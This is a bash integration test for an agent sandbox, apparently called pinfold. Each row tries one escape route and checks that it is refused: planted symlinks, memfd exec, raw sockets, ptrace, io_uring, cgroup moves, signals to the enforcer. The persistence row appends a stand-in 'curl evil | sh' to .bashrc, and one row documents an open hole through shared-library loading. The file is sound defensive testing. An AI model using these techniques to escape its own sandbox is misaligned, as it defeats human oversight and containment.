#!/bin/bash
# Ways around a sandbox that agents have used in the field, one row each;
# every row must fail for the agent, and the kernel's answer is checked.
# A new trick found later is one more row.
# shellcheck disable=SC2016 # ${workspace} in single quotes is the policy's
set -eu
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/../integration/agent.sh"

require_root
require_cmd python3
install_probe

CONF=$TEST_TMP/etc
STATE=$TEST_TMP/state
WS=$TEST_TMP/ws
SECRET=$TEST_TMP/secret
mkdir -p "$CONF/agents.d" "$SECRET"
chmod 0755 "$SECRET"
echo "TOPSECRET" >"$SECRET/key"
chmod 0644 "$SECRET/key"
PY=$(readlink -f /usr/bin/python3)
# A granted socket path of 107 bytes, the most a grant may name, and a
# service on the same path plus one byte, which fills all of sun_path.
LONGDIR=$TEST_TMP/l
mkdir -p "$LONGDIR"
chmod 0755 "$LONGDIR"
LONG=$LONGDIR/$(printf 'x%.0s' $(seq $((107 - ${#LONGDIR} - 1))))
# A home the agent may read but not write, whose start-up files Unix
# permissions would let it change; and a root-owned setuid copy of probe.
HOMEDIR=$TEST_TMP/home
mkdir -p "$HOMEDIR"
chmod 0777 "$HOMEDIR"
echo "# shell start-up" >"$HOMEDIR/.bashrc"
chmod 0666 "$HOMEDIR/.bashrc"
SUID=$TEST_TMP/bin/probe-suid
install -m 4755 -o root "$PROBE" "$SUID"
{
	echo '[agent]'
	echo "home = $HOMEDIR"
	echo '[exec]'
	probe_exec_grants
	echo "allow = $SUID"
	echo "allow = $PY"
	echo 'allow = /usr/bin/dash'
	echo 'allow = /usr/bin/ln'
	echo 'allow = /usr/bin/cat'
	echo 'allow = ${workspace}/bin'
	echo '[files]'
	probe_file_grants
	echo "read = $SUID"
	echo 'read = ${home}'
	echo 'read = ${workspace}'
	echo 'read = ${workspace}/data'
	echo 'write = ${workspace}'
	echo 'write = /dev/null'
	echo 'read = /dev/null'
	echo '[network]'
	echo "unix = $TEST_TMP/granted.sock"
	echo "unix = $LONG"
	echo 'connect = 127.0.0.1/32 *'
} >"$CONF/agents.d/esc.ini"

# Two root-owned services on pathname sockets any uid may connect to (as
# a container engine's often is); the policy names one.
python3 -c '
import os, socket, sys, time
socks = []
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    os.chmod(path, 0o666)
    s.listen(8)
    socks.append(s)
time.sleep(600)' "$TEST_TMP/service.sock" "$TEST_TMP/granted.sock" &
track_pid $!
wait_until 5 test -S "$TEST_TMP/granted.sock" || fail "the unix services did not start"
# Each attempt prints its name and "ok" or the errno's name.
ATTEMPT='
import errno
def attempt(name, f):
    try:
        f()
        print(name, "ok")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
'

# Python will not name a path that fills sun_path, so the raw calls.
RAWADDR='
import ctypes, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def raw(path):
    b = struct.pack("H", socket.AF_UNIX) + path
    return ctypes.create_string_buffer(b, len(b)), len(b)
'
python3 -c "$RAWADDR"'
import os, sys, time
s = socket.socket(socket.AF_UNIX)
buf, n = raw(sys.argv[1].encode() + b"y")
if libc.bind(s.fileno(), buf, n):
    sys.exit("bind: %s" % os.strerror(ctypes.get_errno()))
os.chmod(sys.argv[1] + "y", 0o666)
s.listen(8)
time.sleep(600)' "$LONG" &
track_pid $!
wait_until 5 test -S "${LONG}y" || fail "the long-path service did not start"
ABSTRACT=pinfold-escape-$$
python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_UNIX)
s.bind("\0" + sys.argv[1])
s.listen(8)
time.sleep(600)' "$ABSTRACT" &
track_pid $!

start_daemon "$CONF" "$STATE"

agent() {
	pf run --agent esc --workspace "$WS" -- "$@"
}

# Links planted in one session must not widen the grants of the next:
# the daemon resolves ${workspace}/data and ${workspace}/bin itself.
row_planted_links() {
	agent /usr/bin/dash -c "ln -s '$SECRET' data && ln -s /usr/bin bin" ||
		fail "could not plant the links"
	local out rc=0
	out=$(agent /usr/bin/cat data/key 2>&1) || rc=$?
	[ "$rc" != 0 ] || fail "read through a planted link succeeded: '$out'"
	case $out in *TOPSECRET*) fail "the secret leaked: '$out'" ;; esac
	assert_contains_text "$out" "Permission denied"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"] == "data/key" and r["decision"] == "deny")'
	rc=0
	out=$(agent bin/id 2>&1) || rc=$?
	[ "$rc" = 126 ] || fail "exec through a planted link: status $rc, '$out'"
}

# A symlink inside the workspace pointing at a world-writable directory
# outside the grants, and a dangling one pointing at a file to be made
# there: writing and creating through them both fail.
row_symlink_write() {
	local drop out
	drop=$(mktemp -d "$TEST_TMP/drop.XXXXXX")
	chmod 1777 "$drop"
	echo "untouched" >"$drop/existing"
	chmod 0666 "$drop/existing"
	agent /usr/bin/dash -c "ln -s '$drop' out-dir && ln -s '$drop/new' out-new" ||
		fail "could not make the links"
	out=$(agent "$PY" -c '
import errno
for path, mode in (("out-dir/existing", "w"), ("out-new", "w"), ("out-dir/made", "x")):
    try:
        open(path, mode).write("agent was here")
        print(path, "ok")
    except OSError as e:
        print(path, errno.errorcode[e.errno])') || fail "python3 failed: '$out'"
	assert_eq "out-dir/existing EACCES
out-new EACCES
out-dir/made EACCES" "$out" "writes and creations through the links"
	assert_eq "untouched" "$(cat "$drop/existing")" "the file behind the link"
	[ ! -e "$drop/new" ] && [ ! -e "$drop/made" ] || fail "a file was created through a link"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"] == "out-new" and r["decision"] == "deny")'
}

# A program from memory has no path for Landlock to judge: killed at exec.
row_memfd_exec() {
	local rc=0
	agent "$PY" -c '
import os
fd = os.memfd_create("x")
os.write(fd, open("'"$PROBE"'", "rb").read())
os.execve(fd, ["probe", "cgroup"], {})' || rc=$?
	assert_eq 137 "$rc" "status of the memfd exec (SIGKILL)"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "exec" and
		r["outcome"] == "killed" and r["decision"] == "deny")'
}

# The loader run as a program would load any readable binary.
row_loader_exec() {
	local rc=0
	agent "$LOADER" "$PROBE" cgroup || rc=$?
	assert_eq 137 "$rc" "status of the loader run as a program (SIGKILL)"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "exec" and
		r["object"] == "'"$LOADER"'" and r["outcome"] == "killed")'
}

# Socket families no policy governs (vsock reaches the hypervisor).
row_socket_families() {
	local out
	out=$(agent "$PY" -c '
import socket
for fam in (socket.AF_VSOCK, socket.AF_PACKET, 44, socket.AF_INET, socket.AF_UNIX):
    try:
        socket.socket(fam, socket.SOCK_STREAM if fam != socket.AF_PACKET else socket.SOCK_RAW).close()
        print(fam, "ok")
    except OSError as e:
        print(fam, e.errno)') || fail "python3 failed: '$out'"
	assert_eq "40 97
17 97
44 97
2 ok
1 ok" "$out" "socket() per family (97 is EAFNOSUPPORT)"
	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "socket" and
		r["outcome"] == "EAFNOSUPPORT" and r["rule"] == "seccomp")'
}

# Credentials travel in the environment under any name: only terminal and
# locale variables reach the agent.
row_environment() {
	local out
	out=$(GITHUB_TOKEN=t1 AWS_SECRET_ACCESS_KEY=t2 MY_API_KEY=t3 TERM=xterm-test LANG=C.UTF-8 \
		agent "$PY" -c '
import os
print(sorted(k for k in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY", "TERM", "LANG")
             if k in os.environ), os.environ["TERM"], os.environ["HOME"] != "/root")') ||
		fail "python3 failed: '$out'"
	assert_eq "['LANG', 'TERM'] xterm-test True" "$out" "the agent's environment"
}

# Raw IPv4/IPv6 sockets pass no cgroup connect or sendmsg hook. The agent's
# account lacks CAP_NET_RAW, but the filter runs before that check, so the
# refusal is the filter's and is chained as one (tests/unit/
# test_sandbox_filter.c shows the filter refuses them to root too).
row_raw_sockets() {
	local out
	out=$(agent "$PY" -c '
import socket
for fam, typ in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_NONBLOCK),
                 (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        socket.socket(fam, typ, socket.IPPROTO_UDP).close()
        print(fam, "ok")
    except OSError as e:
        print(fam, e.errno)') || fail "python3 failed: '$out'"
	assert_eq "2 1
10 1
2 ok" "$out" "raw and datagram sockets (1 is EPERM)"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "syscall" and
		r["object"] == "socket" and r["outcome"] == "EPERM" and r["rule"] == "seccomp")'
}

# The enforcer itself and the kernel's attack surface: ptrace of pinfoldd,
# bpf(), a user namespace, mount. Each is refused with EPERM, and each
# attempt is chained with the rule that refused it.
row_escape_syscalls() {
	local out
	out=$(agent "$PY" -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = (("ptrace", 101, (16, '"$PINFOLDD_PID"', 0, 0)), ("bpf", 321, (0, 0, 0)),
         ("unshare", 272, (0x10000000,)), ("mount", 165, (0, 0, 0, 0, 0)))
for name, nr, args in calls:
    r = libc.syscall(nr, *args)
    print(name, r, os.strerror(ctypes.get_errno()) if r < 0 else "ok")') ||
		fail "python3 failed: '$out'"
	assert_eq "ptrace -1 Operation not permitted
bpf -1 Operation not permitted
unshare -1 Operation not permitted
mount -1 Operation not permitted" "$out" "the escape syscalls"
	for name in ptrace bpf unshare mount; do
		chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "syscall" and
			r["object"] == "'"$name"'" and r["decision"] == "deny" and
			r["rule"] == "seccomp")'
	done
}

# A service's pathname unix socket that Unix permissions leave open is
# closed unless the policy names it.
row_unix_socket() {
	local out
	out=$(agent "$PY" -c '
import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print("ok")
    except OSError as e:
        print(e.strerror)' "$TEST_TMP/service.sock" "$TEST_TMP/granted.sock") ||
		fail "python3 failed: '$out'"
	assert_eq "Operation not permitted
ok" "$out" "connects to the ungranted and the granted socket"
	# An abstract socket made outside the agent's sandbox (Landlock scope,
	# ABI 6): refused by Landlock, which the chain does not see.
	out=$(agent "$PY" -c '
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0" + sys.argv[1])
    print("ok")
except OSError as e:
    print(e.strerror)' "$ABSTRACT") || fail "python3 failed: '$out'"
	assert_eq "Operation not permitted" "$out" "connect to an abstract socket made outside"
	# All 108 bytes of sun_path, no NUL: a granted path is a prefix of it.
	out=$(agent "$PY" -c "$RAWADDR"'
import os, sys
s = socket.socket(socket.AF_UNIX)
buf, n = raw(sys.argv[1].encode() + b"y")
r = libc.connect(s.fileno(), buf, n)
print("ok" if r == 0 else os.strerror(ctypes.get_errno()))' "$LONG") ||
		fail "python3 failed: '$out'"
	assert_eq "Operation not permitted" "$out" "connect to a 108-byte path a grant is a prefix of"
	python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' \
		"$TEST_TMP/service.sock" || fail "control: the service refuses connections anyway"
	chain_has "$STATE" '(r["type"] == "decision" and r["family"] == "unix" and
		r["object"] == "'"$TEST_TMP/service.sock"'" and r["decision"] == "deny")'
	chain_has "$STATE" '(r["type"] == "decision" and r["family"] == "unix" and
		r["object"] == "'"$TEST_TMP/granted.sock"'" and r["decision"] == "allow" and
		r["rule"].startswith("agents.d/esc.ini:"))'
}

# Paths that reach a forbidden file without naming it: relative to a
# directory descriptor, through /proc/self/root and /proc/self/fd, and a
# hard link made inside the writable workspace.
row_indirect_paths() {
	local out
	out=$(agent "$PY" -c "$ATTEMPT"'
import errno, os, sys
secret = sys.argv[1]
def dirfd():
    d = os.open(os.path.dirname(secret), os.O_PATH)
    os.close(os.open("key", os.O_RDONLY, dir_fd=d))
def procfd():
    d = os.open(os.path.dirname(secret), os.O_PATH)
    open("/proc/self/fd/%d/key" % d).read()
attempt("dirfd", dirfd)
attempt("proc-fd", procfd)
attempt("proc-root", lambda: open("/proc/self/root" + secret).read())
attempt("hardlink", lambda: os.link(secret, "key-link"))
attempt("chdir", lambda: (os.chdir(os.path.dirname(secret)), open("key").read()))' \
		"$SECRET/key") || fail "python3 failed: '$out'"
	# A hard link is refused by protected_hardlinks (EPERM) or, where that
	# is off, by Landlock (EXDEV: no refer right outside the workspace).
	out=${out/hardlink EPERM/hardlink refused}
	out=${out/hardlink EXDEV/hardlink refused}
	assert_eq "dirfd EACCES
proc-fd EACCES
proc-root EACCES
hardlink refused
chdir EACCES" "$out" "the indirect paths"
	[ ! -e "$WS/key-link" ] || fail "a hard link to the secret was made in the workspace"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"] == "key" and r["decision"] == "deny")'
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"].startswith("/proc/self/root") and r["decision"] == "deny")'
}

# Another cgroup for a child (clone3 CLONE_INTO_CGROUP), or the agent's
# own pid written into another cgroup.procs: the tag cannot be shed.
row_cgroup_moves() {
	local cg2 out
	cg2=$(cg2_mount)
	out=$(agent "$PY" -c '
import ctypes, errno, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
    print("open ok")
except OSError as e:
    print("open", errno.errorcode[e.errno])
    fd = os.open(sys.argv[1], os.O_PATH | os.O_DIRECTORY)
# struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal,
# stack, stack_size, tls, set_tid, set_tid_size, cgroup
args = struct.pack("11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd)
buf = ctypes.create_string_buffer(args)
r = libc.syscall(435, buf, len(args))
if r == 0:
    os._exit(0)
print("clone3", errno.errorcode[ctypes.get_errno()] if r < 0 else "ok")
try:
    open(sys.argv[1] + "/cgroup.procs", "w").write(str(os.getpid()))
    print("procs ok")
except OSError as e:
    print("procs", errno.errorcode[e.errno])
print([l for l in open("/proc/self/cgroup").read().split("\n") if l.startswith("0::")][0])' "$cg2") || fail "python3 failed: '$out'"
	assert_eq "open EACCES
clone3 ENOSYS
procs EACCES" "$(sed -n 1,3p <<<"$out")" "opening the root cgroup, clone3 into it, cgroup.procs"
	case $(sed -n 4p <<<"$out") in 0::/pinfold/esc/*) ;; *) fail "the agent left its session: '$out'" ;; esac
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"] == "'"$cg2"'/cgroup.procs" and r["decision"] == "deny")'
}

# Names made to break a log or a terminal: a newline, a quote, an escape
# sequence, bytes that are not UTF-8, and a path of 4,096 bytes. The chain
# stays well-formed and verifiable, and nothing is cut without saying so.
row_hostile_names() {
	agent "$PY" -c '
import os
for name in (b"new\nline", b"quo\"te", b"esc\x1b[31m", b"bad\xff\xfe"):
    open(name, "w").close()
deep = b"/".join([b"d" * 200] * 20)
try:
    os.open(b"/" + deep + b"/x" * 100, os.O_RDONLY)
except OSError:
    pass' || fail "python3 failed"
	"$BUILD/chain-verify" -q "$STATE/audit" || fail "the chain does not verify"
	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "new\nline")'
	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "quo\"te")'
	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "esc\x1b[31m")'
	chain_has "$STATE" '(r["type"] == "decision" and r.get("object_hex") == "626164fffe")'
	chain_has "$STATE" '(r["type"] == "decision" and r.get("truncated") is True)'
}

# A forbidden binary copied into the workspace (which this agent may not
# execute), and run through its descriptor (fexecve: execveat with
# AT_EMPTY_PATH): neither runs.
row_copied_binary() {
	local out
	out=$(agent "$PY" -c "$ATTEMPT"'
import errno, os, shutil
shutil.copy("/usr/bin/id", "id")
os.chmod("id", 0o755)
attempt("copy", lambda: os.execv("./id", ["id"]))
fd = os.open("/usr/bin/id", os.O_RDONLY)
attempt("fexecve", lambda: os.execve(fd, ["id"], {}))') || fail "python3 failed: '$out'"
	assert_eq "copy EACCES
fexecve EACCES" "$out" "the copied and the descriptor-run binary"
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "exec" and
		r["object"] == "./id" and r["decision"] == "deny")'
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "exec" and
		r.get("resolved") == "/usr/bin/id" and r["decision"] == "deny")'
}

# io_uring would do opens and connects the syscall hooks never see.
row_io_uring() {
	local out
	out=$(agent "$PY" -c '
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
r = libc.syscall(425, 8, params)
print(errno.errorcode[ctypes.get_errno()] if r < 0 else "ok")') || fail "python3 failed: '$out'"
	assert_eq EPERM "$out" "io_uring_setup"
	chain_has "$STATE" '(r["type"] == "decision" and r["object"] == "io_uring_setup" and
		r["rule"] == "seccomp")'
}

# Namespaces and privilege: setns (refused whatever the namespace), and a
# setuid-root binary, which under no_new_privs runs as the agent.
row_privilege() {
	local out
	out=$(agent "$PY" -c '
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/proc/self/ns/net", os.O_RDONLY)
r = libc.setns(fd, 0)
print("setns", errno.errorcode[ctypes.get_errno()] if r < 0 else "ok")') ||
		fail "python3 failed: '$out'"
	assert_eq "setns EPERM" "$out" "setns into a network namespace"
	chain_has "$STATE" '(r["object"] == "setns" and r["rule"] == "seccomp")'
	out=$(agent "$SUID" ids) || fail "the setuid probe failed: '$out'"
	case $out in "uid 0 "*|*" euid 0") fail "a setuid binary gave root: '$out'" ;; esac
	assert_eq "$(sed 's/euid/X/' <<<"$out" | awk '{ print $2 }')" \
		"$(awk '{ print $4 }' <<<"$out")" "uid and euid of the setuid probe"
}

# The enforcer and other sessions: a signal to pinfoldd, and the memory of
# a process in another session of the same agent (same uid, but another
# Landlock domain).
row_enforcer() {
	local out other
	spawn "$BUILD/pinfold" --socket "$SOCK" run --agent esc --workspace "$WS" -- "$PROBE" sleep 20
	wait_until 5 chain_has "$STATE" '(r["type"] == "session-start" and r["cmd"][-2:] == ["sleep", "20"])' \
		>/dev/null || fail "the other session did not start"
	other=$(chain_show "$STATE" 'r["type"] == "session-start"' | tail -n 1 |
		python3 -c 'import json, sys; print(json.load(sys.stdin)["pid"])')
	out=$(agent "$PY" -c "$ATTEMPT"'
import errno, os, signal, sys
attempt("kill-pinfoldd", lambda: os.kill(int(sys.argv[1]), signal.SIGTERM))
attempt("mem-other", lambda: open("/proc/%s/mem" % sys.argv[2], "rb").read(1))' \
		"$PINFOLDD_PID" "$other") || fail "python3 failed: '$out'"
	assert_eq "kill-pinfoldd EPERM
mem-other EACCES" "$out" "signal to pinfoldd, memory of another session"
	kill -0 "$PINFOLDD_PID" || fail "pinfoldd is gone"
	chain_has "$STATE" '(r["object"] == "kill" and r["decision"] == "deny")'
}

# Persistence for later: start-up files in a home the agent may only read.
row_persistence() {
	local rc=0
	agent /usr/bin/dash -c "echo 'curl evil | sh' >>'$HOMEDIR/.bashrc'" 2>/dev/null || rc=$?
	[ "$rc" != 0 ] || fail "the agent wrote to ~/.bashrc"
	assert_not_contains "$HOMEDIR/.bashrc" evil
	chain_has "$STATE" '(r["type"] == "decision" and r["action"] == "open" and
		r["object"] == "'"$HOMEDIR/.bashrc"'" and r["decision"] == "deny")'
}

# Every way to make a process keeps the tag: fork, daemon(3)-style double
# fork with setsid, vfork (posix_spawn) and threads.
row_tagging() {
	local out
	out=$(agent "$PY" -c '
import os, sys, threading
def tag():
    return [l for l in open("/proc/self/cgroup").read().split("\n") if l.startswith("0::")][0]
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(w, (tag() + "\n").encode())
        os._exit(0)
    os._exit(0)
print("daemon", os.read(r, 200).decode().strip(), flush=True)
pid = os.posix_spawn(sys.argv[1], [sys.argv[1], "cgroup"], {})
os.waitpid(pid, 0)
t = []
threading.Thread(target=lambda: t.append(tag())).start()
while not t:
    pass
print("thread", t[0])' "$PROBE") || fail "python3 failed: '$out'"
	local sid
	sid=$(last_session "$STATE")
	assert_eq "daemon 0::/pinfold/esc/$sid
0::/pinfold/esc/$sid
thread 0::/pinfold/esc/$sid" "$out" "the tag of a daemon, a vfork child and a thread"
}

# A known hole, kept as a row so that closing it changes the row: a shared
# library the agent writes is loaded (LD_PRELOAD, dlopen) although it may
# not execute its workspace. Landlock governs execve, not mmap(PROT_EXEC);
# the BPF LSM hook that could refuse it cannot be loaded on these kernels.
# What runs stays inside every other restriction, and pinfold status says
# libraries are not governed.
row_known_hole_library() {
	local out
	cp /usr/lib/x86_64-linux-gnu/libc.so.6 "$WS/copied.so" || skip "no libc to copy"
	chmod 0644 "$WS/copied.so"
	out=$(agent "$PY" -c '
import ctypes
ctypes.CDLL("./copied.so")
print("loaded")
try:
    open("'"$SECRET/key"'").read()
    print("secret read")
except OSError as e:
    print(e.strerror)') || fail "python3 failed: '$out'"
	assert_eq "loaded
Permission denied" "$out" "a library from the workspace loads; the file grants still hold"
	pf status | grep -q "^libraries .*NOT governed" ||
		fail "pinfold status does not say libraries are not governed"
}

assert_contains_text() {
	case $1 in *"$2"*) ;; *) fail "expected '$2' in '$1'" ;; esac
}

row planted-links row_planted_links
row symlink-write row_symlink_write
row memfd-exec row_memfd_exec
row loader-exec row_loader_exec
row socket-families row_socket_families
row raw-sockets row_raw_sockets
row environment row_environment
row escape-syscalls row_escape_syscalls
row unix-socket row_unix_socket
row indirect-paths row_indirect_paths
row cgroup-moves row_cgroup_moves
row hostile-names row_hostile_names
row copied-binary row_copied_binary
row io-uring row_io_uring
row privilege row_privilege
row enforcer row_enforcer
row persistence row_persistence
row tagging row_tagging
row known-hole-library row_known_hole_library

stop_daemon
